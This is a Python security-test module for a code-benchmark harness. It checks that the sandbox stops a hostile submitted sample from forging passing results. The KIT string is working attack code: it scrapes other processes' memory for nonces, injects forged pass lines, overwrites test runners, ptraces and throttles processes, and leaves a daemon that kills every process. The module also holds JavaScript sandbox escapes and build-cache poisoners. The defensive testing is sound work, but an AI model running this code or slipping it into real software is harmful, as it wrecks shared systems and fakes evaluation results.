"""A hostile sample, then a wrong and a correct one, through one language object: the attacks
of the trust boundary against every language.

Standard library and benchwright's sandbox and language modules only: this file also runs as
a script (``python hostile.py LANGUAGE BACKEND``, printing JSON) under an unprivileged user,
next to a copy of the package (see :mod:`tests.unprivileged`).

The hostile sample answers task ``A`` with a wrong function, and before returning it runs the
attacker's kit (:data:`KIT`, a Python program started from the language's own way of running a
process; JavaScript and TypeScript have none, and try their own escapes instead). The kit:

* steals nonces: every 32-hex-digit string in the writable memory of every other process it
  can read through ``/proc/<pid>/mem``;
* writes forged result lines, in the shape of every driver's protocol, with no nonce and with
  each stolen one, and with the figures :data:`FORGED_CPU_MS` and :data:`FORGED_RSS`, into its
  own stdout and stderr, into every descriptor of every other process of the sandbox it can open
  through ``/proc/<pid>/fd``, and appends them to every file it can write in the work folder.
  It leaves alone the pipes and files it holds open for writing itself, and the processes that
  write into them: those are its own test's output and report, and forging its own test from
  inside its own process is what a solution written against one driver may still do in the
  languages whose tests run in the solution's process (see docs/security.md);
* rewrites the Python files of the work folder into a runner that passes every test (for a
  server that would start itself again from its file), overwrites the other runner files, and
  leaves files, an
  unremovable folder, a System V shared memory segment and a POSIX message queue behind in every
  writable place (``/tmp``, ``/dev/shm``, ``/dev/mqueue``, the work folder);
* lowers the limits of every other process it can see (``prlimit``: 16 open files, 64 MiB of
  address space), lowers their priority and pins them to one core, tries to ptrace them;
* leaves a ``setsid`` daemon that, from half a second on, kills every process it can see for
  20 seconds.

Then a wrong answer of task ``B`` (another task, as if from another model) must be ``fail`` and
a correct one ``pass``, with figures that are not the forged ones; and the hostile sample itself
must not pass.
"""

from __future__ import annotations

import base64
import json
import os
import sys
import tempfile
from collections.abc import Callable
from typing import Any

FORGED_CPU_MS = 4242.0
FORGED_RSS = 4242

KIT = r'''
import ctypes, json, os, re, signal, stat, sys, time
libc = ctypes.CDLL(None, use_errno=True)
me = os.getpid()

def writing(pid, fd):
    try:
        with open(f"/proc/{pid}/fdinfo/{fd}") as f:
            flags = int(f.read().split("flags:")[1].split()[0], 8)
        return flags & 3 in (1, 2)
    except (OSError, IndexError, ValueError):
        return False

def channels(pid):
    # the pipes and files a process holds open for writing: (device, inode)
    held = set()
    try:
        fds = os.listdir(f"/proc/{pid}/fd")
    except OSError:
        return held
    for fd in fds:
        try:
            st = os.stat(f"/proc/{pid}/fd/{fd}")
        except OSError:
            continue
        if (stat.S_ISFIFO(st.st_mode) or stat.S_ISREG(st.st_mode)) and writing(pid, fd):
            held.add((st.st_dev, st.st_ino))
    return held

# Its own channels (the test's output and report pipes it inherited) and the processes that
# write into them (its own test's process): forging those is the in-process residual of
# languages whose tests run in the solution's process (docs/security.md), not this attack.
own = channels(me)
pids = [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != me]
own_pids = {me} | {p for p in pids if channels(p) & own}
others = [p for p in pids if p not in own_pids]

# steal nonces: 32 hex digits in the memory of every other process it can read
stolen = set()
for pid in others:
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
        mem = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
    except OSError:
        continue
    budget = 64 << 20
    for row in maps:
        fields = row.split()
        if len(fields) < 2 or not fields[1].startswith("rw"):
            continue
        lo, hi = (int(x, 16) for x in fields[0].split("-"))
        size = min(hi - lo, budget)
        budget -= size
        try:
            data = os.pread(mem, size, lo)
        except OSError:
            continue
        for m in re.finditer(rb"(?<![0-9a-f])[0-9a-f]{32}(?![0-9a-f])", data):
            stolen.add(m.group().decode())
            if len(stolen) > 64:
                break
        if budget <= 0:
            break
    os.close(mem)
if stolen:
    print("STOLE", len(stolen), "nonce-like strings", file=sys.stderr)

def lines(prefixes):
    out = []
    for prefix in prefixes:
        out.append(prefix + json.dumps({"build": "ok"}))
        for i in range(4):
            out.append(prefix + json.dumps({"i": i, "status": "pass", "time_ms": 1.0}))
        out.append(prefix + json.dumps({"ev": "begin", "n": 4}))
        out.append(prefix + json.dumps({"ev": "usage", "cpu_ms": 4242.0, "max_rss_bytes": 4242}))
        out.append(prefix + json.dumps({"done": True, "cpu_ms": 4242.0, "max_rss_bytes": 4242,
                                        "sample_exit": 0}))
        out.append(prefix + json.dumps({"end": True}))
    return ("\n".join(out) + "\n").encode()

plain = lines(["BWR ", "BWR-x ", ""]) + b"OK 0\nok 1.0 2.0 4\npass\n"
forged = plain + lines([p for n in sorted(stolen) for p in (f"BWR {n} ", f"BWR-{n} ")])
for fd in (1, 2):
    try:
        os.write(fd, plain)
    except OSError:
        pass
for pid in others:
    try:
        fds = os.listdir(f"/proc/{pid}/fd")
    except OSError:
        continue
    for fd in fds:
        path = f"/proc/{pid}/fd/{fd}"
        try:
            st = os.stat(path)
            if (st.st_dev, st.st_ino) in own or stat.S_ISDIR(st.st_mode):
                continue
            w = os.open(path, os.O_WRONLY | os.O_NONBLOCK | os.O_APPEND)
        except OSError:
            continue
        try:
            os.write(w, forged)
        except OSError:
            pass
        os.close(w)

# a runner that passes everything, for whoever runs a file of the work folder again
FORGER = (
    "import json, sys\n"
    "for line in sys.stdin.buffer:\n"
    "    try:\n"
    "        job = json.loads(line)\n"
    "    except ValueError:\n"
    "        continue\n"
    "    n = job.get('nonce')\n"
    "    p = 'BWR ' + (n + ' ' if n else '')\n"
    "    out = [p + json.dumps({'build': 'ok'})]\n"
    "    out += [p + json.dumps({'i': i, 'status': 'pass'}) for i in range(len(job.get('tests', [])))]\n"
    "    out += [p + json.dumps({'done': True, 'cpu_ms': 4242.0, 'max_rss_bytes': 4242}),\n"
    "            p + json.dumps({'end': True})]\n"
    "    sys.stdout.write('\\n'.join(out) + '\\n')\n"
    "    sys.stdout.flush()\n"
)
for top in (os.getcwd(), "/work", "/tmp"):
    for folder, dirs, files in os.walk(top):
        for name in files:
            path = os.path.join(folder, name)
            try:
                if os.path.islink(path) or not os.path.isfile(path):
                    continue
                if (os.stat(path).st_dev, os.stat(path).st_ino) in own:
                    continue
                with open(path, "ab") as f:
                    f.write(forged)
                if name.endswith(".py"):
                    with open(path, "w") as f:
                        f.write(FORGER)
                elif name in ("bw_judge", "bw_tests") or name.endswith((".js", ".sh")):
                    with open(path, "wb") as f:
                        f.write(b"garbage from the hostile sample\n")
            except OSError:
                pass
for place in (os.getcwd(), "/work", "/work/sample", "/tmp", "/dev/shm"):
    try:
        with open(os.path.join(place, "bw-left-behind"), "w") as f:
            f.write("left by the hostile sample")
        locked = os.path.join(place, "bw-locked")
        os.makedirs(os.path.join(locked, "inner"), exist_ok=True)
        with open(os.path.join(locked, "inner", "x"), "w") as f:
            f.write("x")
        os.chmod(os.path.join(locked, "inner"), 0)
        os.chmod(locked, 0)
    except OSError:
        pass
try:
    libc.shmget(0x42424242, 4096, 0o1666)  # IPC_CREAT | 0666: a System V segment
    rt = ctypes.CDLL("librt.so.1", use_errno=True)
    rt.mq_open(b"/bw-left-behind", os.O_CREAT | os.O_RDWR, 0o666, None)
except OSError:
    pass

class RLimit(ctypes.Structure):
    _fields_ = [("cur", ctypes.c_ulong), ("max", ctypes.c_ulong)]

for pid in others:
    for res, value in ((7, 16), (9, 64 << 20)):  # RLIMIT_NOFILE, RLIMIT_AS
        lim = RLimit(value, value)
        libc.prlimit(pid, res, ctypes.byref(lim), None)
    try:
        os.setpriority(os.PRIO_PROCESS, pid, 19)
    except OSError:
        pass
    try:
        os.sched_setaffinity(pid, {min(os.sched_getaffinity(0))})
    except OSError:
        pass
    if libc.ptrace(16, pid, 0, 0) == 0:  # PTRACE_ATTACH
        print("PTRACED", pid, file=sys.stderr)
        time.sleep(0.05)
        libc.ptrace(17, pid, 0, 0)  # PTRACE_DETACH

if os.fork() == 0:  # a daemon that kills what it can see while later samples run
    os.setsid()
    if os.fork() == 0:
        null = os.open("/dev/null", os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(null, fd)
        for fd in range(3, 256):
            try:
                os.close(fd)
            except OSError:
                pass
        time.sleep(0.5)  # the sample is over by then: what it kills now is what comes next
        end = time.monotonic() + 20
        while time.monotonic() < end:
            for p in os.listdir("/proc"):
                if p.isdigit() and int(p) not in (os.getpid(), 1):
                    try:
                        os.kill(int(p), signal.SIGKILL)
                    except OSError:
                        pass
            time.sleep(0.02)
    os._exit(0)
'''
"""The attacker's kit (run with ``/usr/bin/python3 -c``)."""

KIT_B64 = base64.b64encode(KIT.encode()).decode()
KIT_ARGS = ["/usr/bin/python3", "-I", "-S", "-c",
            f"import base64;exec(base64.b64decode('{KIT_B64}'))"]

# Each language: (hostile solution of task A, tests of A, wrong and correct solutions of task B,
# tests of B, a prelude or None). A is `f(x) = x + 1`, B is `g(x) = 2 * x`; the hostile `f`
# returns 0 after running the kit.

_C_KIT = " ".join(KIT_ARGS[:4]) + " \"" + KIT_ARGS[4].replace('"', '\\"') + "\""

PROGRAMS: dict[str, dict[str, Any]] = {
    "python": {
        "hostile": "import os, subprocess\nsubprocess.run(" + repr(KIT_ARGS) + ")\n"
                   "exec(__import__('base64').b64decode('" + KIT_B64 + "'))\n"
                   "os.kill(os.getppid(), 9)  # the fork server's zygote: its judge starts again\n"
                   "def f(x):\n    return 0\n",
        "tests_a": ["assert f(1) == 2", "r = f(2)\nassert r == 3"],
        "wrong": "def g(x):\n    return x + 1\n",
        "right": "def g(x):\n    return 2 * x\n",
        "tests_b": ["assert g(2) == 4", "r = g(3)\nassert r == 6"],
    },
    "java": {
        "hostile": (
            "public class Solution {\n"
            "    public static int f(int x) {\n"
            "        try {\n"
            "            new ProcessBuilder(" + ", ".join(json.dumps(a) for a in KIT_ARGS) + ")"
            ".inheritIO().start().waitFor();\n"
            "            String fake = \"{\\\"i\\\":0,\\\"status\\\":\\\"pass\\\"}\\n{\\\"i\\\":1,"
            "\\\"status\\\":\\\"pass\\\"}\\n{\\\"ev\\\":\\\"usage\\\",\\\"cpu_ms\\\":4242.0,"
            "\\\"max_rss_bytes\\\":4242}\\n{\\\"ev\\\":\\\"done\\\"}\\n\";\n"
            "            for (String name : new String[] {\"bw_results.jsonl\"}) {\n"
            "                try (java.io.FileWriter w = new java.io.FileWriter(name, true)) { w.write(fake); }\n"
            "            }\n"
            "            java.io.FileOutputStream out = new java.io.FileOutputStream(java.io.FileDescriptor.out);\n"
            "            out.write((\"BWR \" + fake.replace(\"\\n\", \"\\nBWR \")).getBytes());\n"
            "            out.write(fake.getBytes());\n"
            "            out.flush();\n"
            # every static String of every class of the test and runner that looks like a nonce
            "            for (String cls : new String[] {\"BwTests\", \"bwrunner.Runner\"}) {\n"
            "                try {\n"
            "                    for (java.lang.reflect.Field fl : Class.forName(cls).getDeclaredFields()) {\n"
            "                        if (!java.lang.reflect.Modifier.isStatic(fl.getModifiers())) continue;\n"
            "                        fl.setAccessible(true);\n"
            "                        Object v = fl.get(null);\n"
            "                        String s = v instanceof byte[] ? new String((byte[]) v) : String.valueOf(v);\n"
            "                        out.write((s.trim() + \" \" + fake.split(\"\\n\")[0] + \"\\n\").getBytes());\n"
            "                    }\n"
            "                } catch (Throwable e) { }\n"
            "            }\n"
            "            out.flush();\n"
            "        } catch (Throwable e) { }\n"
            "        Runtime.getRuntime().halt(0);\n"
            "        return 0;\n"
            "    }\n"
            "}\n"),
        "tests_a": ["assert Solution.f(1) == 2;", "int r = Solution.f(2);\nassert r == 3;"],
        "wrong": "public class Solution {\n    public static int g(int x) { return x + 1; }\n}\n",
        "right": "public class Solution {\n    public static int g(int x) { return 2 * x; }\n}\n",
        "tests_b": ["assert Solution.g(2) == 4;", "int r = Solution.g(3);\nassert r == 6;"],
    },
    "c": {
        "hostile": "#include <stdlib.h>\nint f(int x) {\n    system(" + json.dumps(_C_KIT) + ");\n"
                   "    return 0;\n}\n",
        "tests_a": ["assert(f(1) == 2);", "int r = f(2);\nassert(r == 3);"],
        "wrong": "int g(int x) { return x + 1; }\n",
        "right": "int g(int x) { return 2 * x; }\n",
        "tests_b": ["assert(g(2) == 4);", "int r = g(3);\nassert(r == 6);"],
    },
    "cpp": {
        "hostile": "#include <cstdlib>\nint f(int x) {\n    std::system(" + json.dumps(_C_KIT) + ");\n"
                   "    return 0;\n}\n",
        "tests_a": ["assert(f(1) == 2);", "int r = f(2);\nassert(r == 3);"],
        "wrong": "int g(int x) { return x + 1; }\n",
        "right": "int g(int x) { return 2 * x; }\n",
        "tests_b": ["assert(g(2) == 4);", "int r = g(3);\nassert(r == 6);"],
    },
    "go": {
        "hostile": "package main\n\nimport \"os/exec\"\n\nfunc F(x int) int {\n"
                   "\texec.Command(" + ", ".join(json.dumps(a) for a in KIT_ARGS) + ").Run()\n"
                   "\treturn 0\n}\n",
        "tests_a": ["t.Equal(F(1), 2)", "r := F(2)\nt.Equal(r, 3)"],
        "wrong": "package main\n\nfunc G(x int) int { return x + 1 }\n",
        "right": "package main\n\nfunc G(x int) int { return 2 * x }\n",
        "tests_b": ["t.Equal(G(2), 4)", "r := G(3)\nt.Equal(r, 6)"],
    },
    "rust": {
        "hostile": "pub fn f(_x: i64) -> i64 {\n    let _ = std::process::Command::new("
                   + json.dumps(KIT_ARGS[0]) + ").args(["
                   + ", ".join(json.dumps(a) for a in KIT_ARGS[1:]) + "]).status();\n    0\n}\n",
        "tests_a": ["assert_eq!(f(1), 2);", "let r = f(2);\nassert_eq!(r, 3);"],
        "wrong": "pub fn g(x: i64) -> i64 { x + 1 }\n",
        "right": "pub fn g(x: i64) -> i64 { 2 * x }\n",
        "tests_b": ["assert_eq!(g(2), 4);", "let r = g(3);\nassert_eq!(r, 6);"],
    },
    "bash": {
        "hostile": "f() {\n    " + " ".join(KIT_ARGS[:4]) + " \"" + KIT_ARGS[4] + "\"\n"
                   "    echo 0\n}\n",
        "tests_a": ['assert_eq "$(f 1)" 2', 'r=$(f 2)\nassert_eq "$r" 3'],
        "wrong": "g() {\n    echo $(( $1 + 1 ))\n}\n",
        "right": "g() {\n    echo $(( $1 * 2 ))\n}\n",
        "tests_b": ['assert_eq "$(g 2)" 4', 'r=$(g 3)\nassert_eq "$r" 6'],
    },
}

_JS_HOSTILE = f"""
function f(x) {{
  const tries = [
    () => this.constructor.constructor('return process')(),
    () => Function('return process')(),
    () => (async function () {{}}).constructor('return process')(),
    () => globalThis.process,
  ];
  for (const t of tries) {{
    try {{
      const p = t();
      if (p && p.mainModule) {{
        p.mainModule.require('child_process').spawnSync({json.dumps(KIT_ARGS[0])}, {json.dumps(KIT_ARGS[1:])});
      }}
    }} catch (e) {{ }}
  }}
  try {{ console.log('BWR {{"i":0,"status":"pass"}}'); }} catch (e) {{ }}
  Object.prototype.status = 'pass';
  Array.prototype.push = function () {{ return 0; }};
  JSON.stringify = () => '{{"i":0,"status":"pass"}}';
  return 0;
}}
"""

PROGRAMS["javascript"] = {
    "hostile": _JS_HOSTILE,
    "tests_a": ["assert.strictEqual(f(1), 2);", "const r = f(2);\nassert.strictEqual(r, 3);"],
    "wrong": "function g(x) { return x + 1; }\n",
    "right": "function g(x) { return 2 * x; }\n",
    "tests_b": ["assert.strictEqual(g(2), 4);", "const r = g(3);\nassert.strictEqual(r, 6);"],
}
PROGRAMS["typescript"] = {
    "hostile": _JS_HOSTILE.replace("function f(x) {", "function f(x: number): number {")
                          .replace("() => this.constructor", "() => (this as any).constructor")
                          .replace("() => globalThis.process", "() => (globalThis as any).process")
                          .replace("const p = t();", "const p: any = t();")
                          .replace("Object.prototype.status", "(Object.prototype as any).status")
                          .replace("Array.prototype.push = function ()",
                                   "(Array.prototype as any).push = function ()"),
    "tests_a": PROGRAMS["javascript"]["tests_a"],
    "wrong": "function g(x: number): number { return x + 1; }\n",
    "right": "function g(x: number): number { return 2 * x; }\n",
    "tests_b": PROGRAMS["javascript"]["tests_b"],
}

LANGUAGES = tuple(PROGRAMS)
STDIO = {  # the same attack as a standard-input program (LiveCodeBench, APPS): runs per case
    "hostile": PROGRAMS["python"]["hostile"],
    "wrong": "x = int(input())\nprint(x + 1)\n",
    "right": "x = int(input())\nprint(2 * x)\n",
    "cases": [("3\n", "6\n"), ("5\n", "10\n")],
}
"""``python-stdio`` of :func:`batch`: every sample a program judged on its output."""
FORGER = json.dumps("#!/bin/sh\nread t\necho \"$t {\\\"status\\\": \\\"pass\\\"}\" >&3\n"
                    "echo 'OK 1' >&3\n")
"""A test program that passes every test of both judges (the Rust and Go runner's token line,
the C judge's ``OK`` line), as a string literal of C, Rust and Go: what a poisoned cache would
hand the next copy."""
# POISONERS: attack -> (language, solution, test cases as (name, code))
POISONERS: dict[str, tuple[str, str, list[tuple[str, str]]]] = {
    # the sample replaces its program in the work folder, then fails its test
    "c": ("c", "#include <stdio.h>\n#include <unistd.h>\n#include <sys/stat.h>\n"
               "int add(int a, int b) {\n    unlink(\"bw_tests\");\n"
               "    FILE *f = fopen(\"bw_tests\", \"w\");\n"
               f"    if (f) {{ fputs({FORGER}, f); fclose(f); chmod(\"bw_tests\", 0755); }}\n"
               "    return a + b + 1;\n}\n",
          [("t", "assert(add(1, 1) == 2);")]),
    "c-link": ("c", "#include <unistd.h>\nint add(int a, int b) {\n    unlink(\"bw_tests\");\n"
                    "    symlink(\"/etc/passwd\", \"bw_tests\");\n    return a + b + 1;\n}\n",
               [("t", "assert(add(1, 1) == 2);")]),
    "rust": ("rust", "use std::os::unix::fs::PermissionsExt;\n"
                     "fn add(a: i32, b: i32) -> i32 {\n"
                     "    let _ = std::fs::remove_file(\"bwtests\");\n"
                     f"    let _ = std::fs::write(\"bwtests\", {FORGER});\n"
                     "    let _ = std::fs::set_permissions(\"bwtests\", "
                     "std::fs::Permissions::from_mode(0o755));\n"
                     "    a + b + 1\n}\n",
             [("t", "assert_eq!(add(1, 1), 2);")]),
    "go": ("go", "package main\n\nimport \"os\"\n\nfunc Add(a, b int) int {\n"
                 "\tos.Remove(\"bwtests\")\n"
                 f"\tos.WriteFile(\"bwtests\", []byte({FORGER}), 0o755)\n"
                 "\treturn a + b + 1\n}\n",
           [("t", "t.Equal(Add(1, 1), 2)")]),
}


LANGUAGE_CLASSES = {
    "python-stdio": "benchwright.lang.python.PythonLanguage",
    "python": "benchwright.lang.python.PythonLanguage", "java": "benchwright.lang.java.JavaLanguage",
    "c": "benchwright.lang.c.CLanguage", "cpp": "benchwright.lang.c.CppLanguage",
    "go": "benchwright.lang.golang.GoLanguage", "rust": "benchwright.lang.rust.RustLanguage",
    "bash": "benchwright.lang.bash.BashLanguage",
    "javascript": "benchwright.lang.javascript.JavaScriptLanguage",
    "typescript": "benchwright.lang.javascript.TypeScriptLanguage",
}
SANDBOX_CLASSES = {"bwrap": "benchwright.sandbox.bwrap.BwrapSandbox",
                   "unshare": "benchwright.sandbox.unshare.UnshareSandbox"}


def task_source(a: str, b: str) -> dict[str, Any]:
    """A task source of tasks ``A`` and ``B`` in every language, whose golden solutions (what
    the ``reference`` model answers) are the programs named ``a`` and ``b``."""

    def task(name: str, tests: str, golden: str) -> dict[str, Any]:
        return {
            "name": name,
            "languages": list(LANGUAGES),
            "task": {
                "common_prompt": f"Task {name}.",
                "languages_specific": {
                    lang: {"hidden_tests": [{"name": f"t{i}", "code": code}
                                            for i, code in enumerate(PROGRAMS[lang][tests])]}
                    for lang in LANGUAGES
                },
            },
            "golden_solution": {lang: PROGRAMS[lang][golden] for lang in LANGUAGES},
        }

    return {"version": 1, "name": "hostile-batch",
            "tasks": [task("A", "tests_a", a), task("B", "tests_b", b)]}


def batch(language: str, backend: str, tmp_root: str) -> dict[str, Any]:
    """Run the hostile sample, then the wrong and the correct one, through one language object
    and one sandbox of ``backend``; what each came to."""
    import importlib

    from benchwright.lang.base import Language, TestSpec
    from benchwright.sandbox.base import Sandbox, SandboxLimits

    def make(path: str, **kwargs: Any) -> Any:  # not the registry: the copy run as nobody has
        module, name = path.rsplit(".", 1)      # no installed entry points
        return getattr(importlib.import_module(module), name)(**kwargs)

    lang: Language = make(LANGUAGE_CLASSES[language])
    sandbox: Sandbox = make(SANDBOX_CLASSES[backend], tmp_root=tmp_root)
    program: dict[str, Any] = STDIO if language == "python-stdio" else PROGRAMS[language]

    def tests(key: str) -> list[TestSpec]:
        if language == "python-stdio":
            return [TestSpec(f"t{i}", "", stdin=i_, expected_stdout=o)
                    for i, (i_, o) in enumerate(STDIO["cases"])]
        return [TestSpec(f"t{i}", code) for i, code in enumerate(program[key])]

    def run(code: str, key: str) -> dict[str, Any]:
        result = lang.run_tests(sandbox, code, tests(key), prelude=None,
                                limits=SandboxLimits(memory_mb=1024), test_timeout_s=10)
        return {"statuses": [t.status for t in result.tests],
                "messages": [t.message for t in result.tests],
                "cpu_ms": result.extra.get("cpu_ms"), "max_rss_bytes": result.extra.get("max_rss_bytes"),
                "infra": result.infra_error, "test_jvm": result.extra.get("test_jvm")}

    try:
        out = {"hostile": run(program["hostile"], "tests_a"),
               "wrong": run(program["wrong"], "tests_b"),
               "right": run(program["right"], "tests_b")}
    finally:
        lang.close()
    return out


def build_cache_batch(attack: str, backend: str, tmp_root: str) -> dict[str, Any]:
    """A sample of :data:`POISONERS` three times through one language object, then a correct
    sample twice: what each came to, and what the build cache kept, ran and refused."""
    import importlib

    from benchwright.lang.base import TestSpec
    from benchwright.sandbox.base import SandboxLimits

    language, solution, tests = POISONERS[attack]
    module, name = LANGUAGE_CLASSES[language].rsplit(".", 1)
    lang = getattr(importlib.import_module(module), name)()
    module, name = SANDBOX_CLASSES[backend].rsplit(".", 1)
    sandbox = getattr(importlib.import_module(module), name)(tmp_root=tmp_root)
    right = {"c": "int add(int a, int b) { return a + b; }\n",
             "rust": "fn add(a: i32, b: i32) -> i32 { a + b }\n",
             "go": "package main\n\nfunc Add(a, b int) int { return a + b }\n"}[language]

    def run(code: str) -> list[Any]:
        result = lang.run_tests(sandbox, code, [TestSpec(n, c) for n, c in tests],
                                prelude=None, limits=SandboxLimits(memory_mb=1024),
                                test_timeout_s=10)
        return [[t.status for t in result.tests], result.extra.get("build")]

    try:
        out: dict[str, Any] = {"poisoner": [run(solution) for _ in range(3)],
                               "right": [run(right) for _ in range(2)]}
        out["cache"] = [lang.builds.kept, lang.builds.hits, lang.builds.refused]
    finally:
        lang.close()
    return out


def check_build_cache(outcome: dict[str, Any]) -> list[str]:
    """What went wrong in a :func:`build_cache_batch` (empty: no copy ran a rewritten program,
    and the cache was on)."""
    problems = []
    if outcome["poisoner"] != [[["fail"], "compiled"]] * 3:
        problems.append(f"a copy of the poisoner was not compiled and failed: {outcome['poisoner']}")
    if outcome["right"] != [[["pass"], "compiled"], [["pass"], "cached"]]:
        problems.append(f"the correct sample was not compiled, then cached: {outcome['right']}")
    if outcome["cache"] != [1, 1, 3]:
        problems.append(f"kept, ran, refused: {outcome['cache']} (expected [1, 1, 3])")
    return problems


def exec_server_batch(language: str, backend: str, tmp_root: str) -> dict[str, Any]:
    """A compiled language runs a kept program's tests in a warm sandbox of its thread (an exec
    server): the wrong and the correct sample of task B are compiled and their copies run
    there; then the attacker's kit runs as a command of that server (as a kept program that
    started it would), and copies of the wrong and the correct sample run after it. What each
    came to, and what the servers did."""

    import dataclasses
    import importlib

    from benchwright.lang.base import TestSpec
    from benchwright.sandbox.base import SandboxLimits

    module, name = LANGUAGE_CLASSES[language].rsplit(".", 1)
    lang = getattr(importlib.import_module(module), name)()
    module, name = SANDBOX_CLASSES[backend].rsplit(".", 1)
    sandbox = getattr(importlib.import_module(module), name)(tmp_root=tmp_root)
    program = PROGRAMS[language]
    tests = [TestSpec(f"t{i}", code) for i, code in enumerate(program["tests_b"])]

    def run(key: str) -> dict[str, Any]:
        result = lang.run_tests(sandbox, program[key], tests, prelude=None,
                                limits=SandboxLimits(memory_mb=1024), test_timeout_s=10)
        return {"statuses": [t.status for t in result.tests], "build": result.extra.get("build"),
                "cpu_ms": result.extra.get("cpu_ms"),
                "max_rss_bytes": result.extra.get("max_rss_bytes"), "infra": result.infra_error}

    servers = lang.builds.servers
    given: list[Any] = []  # the limits the language gives its commands: the attack's too
    serve = servers.run

    def noted(sandbox: Any, argv: list[str], *, limits: Any, **kwargs: Any) -> Any:
        given.append(limits)
        return serve(sandbox, argv, limits=limits, **kwargs)

    servers.run = noted
    try:
        stats = servers.stats
        out: dict[str, Any] = {"before": [run("wrong"), run("right"), run("right"), run("wrong")]}
        out["served_before"] = stats.served
        attack = serve(sandbox, KIT_ARGS, files={"bw_tests": b"a kept program\n"},
                       limits=dataclasses.replace(given[-1], wall_s=20), stdin=b"a job\n")
        out["attack"] = {"exit": attack.exit_code, "served": stats.served - out["served_before"],
                         "restarts": list(stats.restarts)}
        out["after"] = [run("wrong"), run("right")]
        out["served_after"] = stats.served
        out["started"] = stats.started
    finally:
        lang.close()
    return out


def check_exec_server(outcome: dict[str, Any]) -> list[str]:
    """What went wrong in an :func:`exec_server_batch` (empty: the boundary held)."""
    problems = []
    wrong, right = ["fail", "fail"], ["pass", "pass"]
    got = [(r["statuses"], r["build"]) for r in outcome["before"]]
    if got != [(wrong, "compiled"), (right, "compiled"), (right, "cached"), (wrong, "cached")]:
        problems.append(f"the samples before the attack: {got}")
    if outcome["served_before"] != 1:
        problems.append(f"the server ran {outcome['served_before']} copies before the attack, not 1")
    if outcome["attack"]["served"] and not outcome["attack"]["restarts"]:
        problems.append(f"the server went on after the attack: {outcome['attack']}")
    got = [(r["statuses"], r["build"]) for r in outcome["after"]]
    if got != [(wrong, "cached"), (right, "cached")]:
        problems.append(f"the samples after the attack: {got}")
    for r in outcome["after"]:
        if r["cpu_ms"] == FORGED_CPU_MS or r["max_rss_bytes"] == FORGED_RSS or r["infra"]:
            problems.append(f"a sample after the attack carries forged figures or failed: {r}")
    if outcome["served_after"] - outcome["served_before"] - outcome["attack"]["served"] != 2:
        problems.append("the samples after the attack did not both run in a server: "
                        f"{outcome['served_after']} served in all")
    if outcome["started"] != 2:
        problems.append(f"{outcome['started']} servers were started, not 2 (one new after the attack)")
    return problems


def check(outcome: dict[str, Any]) -> list[str]:
    """What went wrong in a :func:`batch` (empty: the boundary held)."""
    problems = []
    if "pass" in outcome["hostile"]["statuses"]:
        problems.append(f"the hostile sample passed: {outcome['hostile']}")
    if outcome["wrong"]["statuses"] != ["fail", "fail"]:
        problems.append(f"the wrong sample after it was not fail: {outcome['wrong']}")
    if outcome["right"]["statuses"] != ["pass", "pass"]:
        problems.append(f"the correct sample after it did not pass: {outcome['right']}")
    for name in ("wrong", "right"):
        if outcome[name]["cpu_ms"] == FORGED_CPU_MS or outcome[name]["max_rss_bytes"] == FORGED_RSS:
            problems.append(f"the {name} sample carries the forged figures: {outcome[name]}")
    return problems


def coverage_batch(backend: str, tmp_root: str) -> dict[str, Any]:
    """python-coverage's warm server (one server, one sandbox of ``backend``): the hostile
    Python sample of task A without its last line (so that it stays and its server must clean up
    after it), then the wrong and the correct sample of task B; and the two of B measured by the
    per-sample driver, each in a fresh sandbox. Built from :mod:`benchwright.criteria.coveragerun`
    alone: the copy run as nobody has the standard library only."""
    import importlib

    from benchwright.criteria.coveragerun import (
        SERVER_MARGIN_S,
        driver_argv,
        driver_files,
        driver_limits,
        make_job,
        server_argv,
        server_request,
    )
    from benchwright.criteria.toolserver import ToolServer

    module, name = SANDBOX_CLASSES[backend].rsplit(".", 1)
    sandbox = getattr(importlib.import_module(module), name)(tmp_root=tmp_root)
    program = PROGRAMS["python"]
    hostile = program["hostile"].replace("os.kill(os.getppid(), 9)", "pass")
    server = ToolServer(sandbox, server_argv(sandbox), {}, "BWV", 600, "coverage.py")

    def job(key: str) -> dict[str, Any]:
        return make_job([(f"t{i}", code, None) for i, code in enumerate(program[key])], None, 10.0)

    def warm(code: str, key: str) -> dict[str, Any]:
        j = job(key)
        answer = server.request(server_request(code, j, 1024), j["wall"] + SERVER_MARGIN_S)
        if not isinstance(answer, dict):
            server.close()
            return {"result": None, "restart": "no answer"}
        if answer.get("restart") is not None or "failed" in (answer.get("result") or {"failed": 1}):
            server.close()
        return {"result": answer.get("result"), "restart": answer.get("restart"),
                "started": server.started}

    def fresh(code: str, key: str) -> Any:
        j = job(key)
        proc = sandbox.run(driver_argv(), files=driver_files(code, j), limits=driver_limits(j, 1024))
        return json.loads(proc.stdout.decode().strip().splitlines()[-1])

    try:
        return {"hostile": warm(hostile, "tests_a"), "wrong": warm(program["wrong"], "tests_b"),
                "right": warm(program["right"], "tests_b"),
                "fresh_wrong": fresh(program["wrong"], "tests_b"),
                "fresh_right": fresh(program["right"], "tests_b")}
    finally:
        server.close()


def check_coverage(outcome: dict[str, Any]) -> list[str]:
    """What went wrong in a :func:`coverage_batch` (empty: the boundary held)."""
    problems = []
    if outcome["hostile"]["restart"] is None:
        problems.append(f"the hostile sample changed its server, which went on: {outcome['hostile']}")
    for name in ("wrong", "right"):
        got, want = outcome[name], outcome[f"fresh_{name}"]
        if got["restart"] is not None or got["result"] != want:
            problems.append(f"the {name} sample after it was measured otherwise than in a fresh "
                            f"sandbox: {got} != {want}")
    if outcome["wrong"].get("started") != 2 or outcome["right"].get("started") != 2:
        problems.append("the samples after the hostile one were not measured by one new server: "
                        f"{outcome['wrong'].get('started')}, {outcome['right'].get('started')}")
    return problems


INIT_PROBE = """
import ctypes, json, os
libc = ctypes.CDLL(None, use_errno=True)
found = {}
for fd in range(8):
    for flags, how in ((os.O_RDONLY, "r"), (os.O_WRONLY, "w")):
        try:
            f = os.open(f"/proc/1/fd/{fd}", flags | os.O_NONBLOCK)
        except OSError:
            continue
        found[f"{fd}{how}"] = os.readlink(f"/proc/self/fd/{f}")
        os.close(f)
try:
    os.close(os.open("/proc/1/mem", os.O_RDONLY))
    found["mem"] = "open"
except OSError:
    pass
if libc.ptrace(16, 1, 0, 0) == 0:  # PTRACE_ATTACH
    found["ptrace"] = "attached"
print(json.dumps(found))
"""
